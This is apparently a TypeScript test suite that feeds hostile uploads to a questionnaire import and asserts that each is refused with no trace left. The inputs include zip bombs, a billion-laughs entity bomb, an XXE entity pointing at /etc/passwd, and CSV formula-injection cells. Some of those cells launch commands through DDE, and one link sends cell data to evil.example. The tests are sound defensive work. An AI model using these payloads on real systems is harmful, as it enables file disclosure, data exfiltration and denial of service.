import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { sql } from 'kysely';
import { after, before, test } from 'node:test';
import { testDb, type TestDatabase } from '../../testing/database.ts';
import { AppError } from '../../foundation/errors.ts';
import { createCycle } from './createCycle.ts';
import { getCycle, type Cycle } from '../cycles.ts';
import { questionnaireDocx } from '../docxExport.ts';
import { answersCsv } from '../exports.ts';
import { previewImport } from './previewImport.ts';
import { type ImportFormat } from '../importReport.ts';
import { loadQuestionnaire, type Questionnaire } from '../questionnaire.ts';
import { saveDraft } from './saveDraft.ts';
import { startReport } from './startReport.ts';
import { crc32, deflate, deflateBomb, rawZip } from '../testZip.ts';
import { demoActors } from '../../testing/factories.ts';

/**
 * Hostile uploads to the questionnaire import. Each must be refused with its stable code, quickly,
 * and leave nothing behind: no pending import, no audit event, the draft untouched.
 */

let t: TestDatabase;
let A: Awaited<ReturnType<typeof demoActors>>;
let cycle: Cycle;
let q: Questionnaire;
let reportId: number;
let template: Record<string, Uint8Array>;
before(async () => {
  t = await testDb();
  A = await demoActors(t.db);
  cycle = await getCycle(
    t.db,
    (await createCycle(t.db, A.secretariat, { title: 'Hostile survey', opensOn: '2026-01-01', dueOn: '2099-06-30', closesOn: '2099-12-31', states: ['NZL'] }))
      .id,
  );
  q = await loadQuestionnaire(t.db, cycle.framework_version);
  reportId = (await startReport(t.db, A.nzl, cycle.id)).id;
  await saveDraft(t.db, A.nzl, reportId, { lockVersion: 0, answers: { elements: { 'norm-a': { status: 'planned', measures: 'Strategy in preparation.' } } } });
  template = unzipSync(
    new Uint8Array(
      await questionnaireDocx(t.db, {
        cycle,
        questionnaire: q,
        lang: 'en',
        report: { id: reportId, stateIso3: 'NZL', stateName: 'New Zealand', lockVersion: 1, answers: {} },
      }),
    ),
  );
});
after(() => t.close());

const counts = async () => {
  const n = async (table: 'national_report_imports' | 'audit_events') =>
    Number(
      (
        await t.db
          .selectFrom(table)
          .select(sql<number>`count(*)`.as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  const r = await t.db.selectFrom('national_reports').select(['lock_version', 'draft_answers']).where('id', '=', reportId).executeTakeFirstOrThrow();
  return { imports: await n('national_report_imports'), audit: await n('audit_events'), lock: r.lock_version, draft: JSON.stringify(r.draft_answers) };
};

const timings: string[] = [];
/** Uploads `bytes`, expects `code`, checks nothing was written; returns the error. */
async function refused(label: string, format: ImportFormat, bytes: Uint8Array, code: string): Promise<AppError> {
  const before = await counts();
  const heap0 = process.memoryUsage().rss;
  const t0 = performance.now();
  const err = await previewImport(t.db, A.nzl, reportId, format, bytes).then(
    () => null,
    (e: unknown) => e,
  );
  const ms = performance.now() - t0;
  timings.push(
    `${label}: ${bytes.length.toLocaleString('en')} bytes → ${(err as AppError)?.code} in ${ms.toFixed(0)} ms (rss +${Math.max(0, (process.memoryUsage().rss - heap0) / 1e6).toFixed(0)} MB)`,
  );
  assert.ok(err instanceof AppError, `${label}: expected a refusal, got ${String(err)}`);
  assert.equal(err.code, code, `${label}: ${err.message}`);
  assert.equal(err.status, 422);
  assert.deepEqual(await counts(), before, `${label}: nothing written`);
  assert.ok(ms < 8_000, `${label} took ${ms.toFixed(0)} ms`);
  return err;
}
after(() => console.log(`# hostile uploads\n${timings.map((l) => `#   ${l}`).join('\n')}`));

const withDocument = (xml: string) => zipSync({ ...template, 'word/document.xml': strToU8(xml) });
const documentXml = () => strFromU8(template['word/document.xml']!);

test('zip bombs: one entry of 1 GB, 2,000 entries of 1 MB, sizes declared small or 4 GB — refused before they are inflated', async () => {
  await refused(
    '1 GB entry',
    'docx',
    rawZip([
      { name: '[Content_Types].xml', data: deflate(strToU8('<Types/>')) },
      { name: 'word/document.xml', data: deflateBomb(1024) },
    ]),
    'import.docx_too_large',
  );
  await refused(
    '2,000 × 1 MB entries declared 100 bytes each',
    'docx',
    rawZip(Array.from({ length: 2000 }, (_, i) => ({ name: `word/media/image${i}.png`, data: deflateBomb(1), declaredSize: 100 }))),
    'import.docx_too_large',
  );
  const small = strToU8('<w:document/>');
  await refused(
    'declared 4 GB',
    'docx',
    rawZip([{ name: 'word/document.xml', data: deflate(small), declaredSize: 0xfffffff0, crc: crc32(small) }]),
    'import.docx_too_large',
  );
  // Within the archive limit but a document body no questionnaire reaches (dense markup takes seconds to parse).
  const words = randomBytes(3_200_000).toString('hex').match(/.{16}/g)!;
  const paragraphs = (n: number) =>
    words
      .slice(0, n)
      .map((w) => `<w:p><w:r><w:t>${w}</w:t></w:r></w:p>`)
      .join('');
  await refused(
    '20 MB document body',
    'docx',
    withDocument(`<w:document xmlns:w="w"><w:body>${paragraphs(400_000)}</w:body></w:document>`),
    'import.docx_too_large',
  );
  // Under the size cap but dense: 1.2 million elements in 4.9 MB would take seconds and hundreds of MB to parse.
  await refused(
    '4.9 MB of dense markup',
    'docx',
    withDocument(`<w:document xmlns:w="w"><w:body>${paragraphs(100_000)}</w:body></w:document>`),
    'import.docx_too_large',
  );
});

test('malformed archives: truncated, not a zip, duplicate entries', async () => {
  const good = zipSync(template);
  await refused('truncated', 'docx', good.subarray(0, Math.floor(good.length / 2)), 'import.docx_unreadable');
  await refused('PK then noise', 'docx', new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...crypto.getRandomValues(new Uint8Array(4000))]), 'import.docx_unreadable');
  await refused('empty file', 'docx', new Uint8Array(0), 'import.docx_unreadable');
  const doc = template['word/document.xml']!;
  await refused(
    'two word/document.xml entries',
    'docx',
    rawZip([
      ...Object.entries(template).map(([name, data]) => ({ name, data: deflate(data), declaredSize: data.length, crc: crc32(data) })),
      { name: 'word/document.xml', data: deflate(doc), declaredSize: doc.length, crc: crc32(doc) },
    ]),
    'import.docx_unreadable',
  );
});

test('hostile XML: billion laughs, external entities, malformed and absurdly deep markup', async () => {
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
    ']>';
  const err = await refused(
    'billion laughs in document.xml',
    'docx',
    withDocument(
      documentXml()
        .replace(/^<\?xml[^>]*\?>/, laughs)
        .replace('<w:body>', '<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'),
    ),
    'import.docx_unsafe_xml',
  );
  assert.match(err.message, /DTD/);
  const custom = strFromU8(template['docProps/custom.xml']!);
  await refused(
    'external entity in custom.xml',
    'docx',
    zipSync({
      ...template,
      'docProps/custom.xml': strToU8(custom.replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
    }),
    'import.docx_unsafe_xml',
  );
  await refused(
    'unclosed element',
    'docx',
    withDocument(documentXml().replace('</w:body>', '<w:p><w:r><w:t>open</w:r></w:p></w:body>')),
    'import.docx_unreadable',
  );
  await refused(
    '100,000 nested elements',
    'docx',
    withDocument(documentXml().replace('<w:body>', `<w:body>${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`)),
    'import.docx_unreadable',
  );
});

test('CSV: formula cells are refused naming their fields; wrong encodings and broken quoting get their own codes', async () => {
  const csv = (rows: string[][], d = ',') => rows.map((r) => r.map((c) => (/[",;\t\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(d)).join('\r\n');
  const formulas = await refused(
    'formula cells',
    'csv',
    strToU8(
      csv([
        ['field', 'value'],
        ['elements.norm-a.measures', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
        ['elements.norm-b.measures', "-2+3+cmd|' /C calc'!A0"],
        ['elements.norm-c.measures', "@SUM(1+1)*cmd|' /C calc'!A0"],
        ['elements.norm-d.measures', '- a bullet point, not a formula'],
      ]),
    ),
    'import.csv_formula',
  );
  assert.deepEqual(Object.keys(formulas.fields ?? {}).sort(), ['elements.norm-a.measures', 'elements.norm-b.measures', 'elements.norm-c.measures']);
  await refused(
    'a PNG renamed .csv',
    'csv',
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, ...new Uint8Array(64)]),
    'import.csv_encoding',
  );
  const utf16 = Buffer.from('\ufefffield\tvalue\r\nelements.norm-a.status\tplanned\r\n', 'utf16le');
  await refused('UTF-16 cut in half', 'csv', new Uint8Array(utf16.subarray(0, utf16.length - 1)), 'import.csv_encoding');
  await refused('unclosed quote', 'csv', strToU8('field,value\nelements.norm-a.measures,"never closed\n'), 'import.csv_malformed');
  await refused('no field/value header', 'csv', strToU8('a;b\n1;2\n'), 'import.csv_header');
  await refused(
    '600,000 rows',
    'csv',
    strToU8(['field,value', ...Array.from({ length: 600_000 }, (_, i) => `elements.norm-a.measures,"text ${i}, more"`)].join('\n')),
    'import.csv_too_long',
  );
});

test('CSV as spreadsheets write it: semicolons in Windows-1252 (French Excel), tabs in UTF-16 (Unicode text), UTF-8 with BOM', async () => {
  const expectFields = async (label: string, bytes: Uint8Array, want: Record<string, string>) => {
    const p = await previewImport(t.db, A.nzl, reportId, 'csv', bytes);
    assert.equal(p.valid, true, `${label}: ${JSON.stringify(p.errors)}`);
    const after = Object.fromEntries(p.changes.filter((c) => c.after !== null).map((c) => [c.field, c.after]));
    assert.deepEqual(after, want, label);
  };
  // Windows-1252 has œ at 0x9C and ’ at 0x92; the rest of the text is Latin-1.
  const cp1252 = (s: string) => new Uint8Array([...s].map((ch) => (({ œ: 0x9c, '’': 0x92, '€': 0x80 }) as Record<string, number>)[ch] ?? ch.charCodeAt(0)));
  await expectFields(
    'French Excel',
    cp1252('field;value\r\nelements.norm-a.status;Mis en œuvre\r\nelements.norm-a.measures;"Stratégie nationale; budget de 2 000 000 € ; l’ANSSI, pilote"\r\n'),
    {
      'elements.norm-a.status': 'implemented',
      'elements.norm-a.measures': 'Stratégie nationale; budget de 2 000 000 € ; l’ANSSI, pilote',
    },
  );
  await expectFields(
    'Unicode text',
    new Uint8Array(
      Buffer.from('\ufefffield\tvalue\r\nelements.norm-a.status\tВ процессе\r\nelements.norm-a.measures\tНациональная стратегия, 2026\r\n', 'utf16le'),
    ),
    {
      'elements.norm-a.status': 'in-progress',
      'elements.norm-a.measures': 'Национальная стратегия, 2026',
    },
  );
  // Accord's own export (UTF-8, BOM, defused formula text) reads back as it was written.
  await expectFields(
    'the CSV export',
    strToU8(answersCsv(q, { elements: { 'norm-a': { status: 'planned', measures: '=not a formula, text starting with an equals sign' } } })),
    {
      'elements.norm-a.measures': '=not a formula, text starting with an equals sign',
    },
  );
});
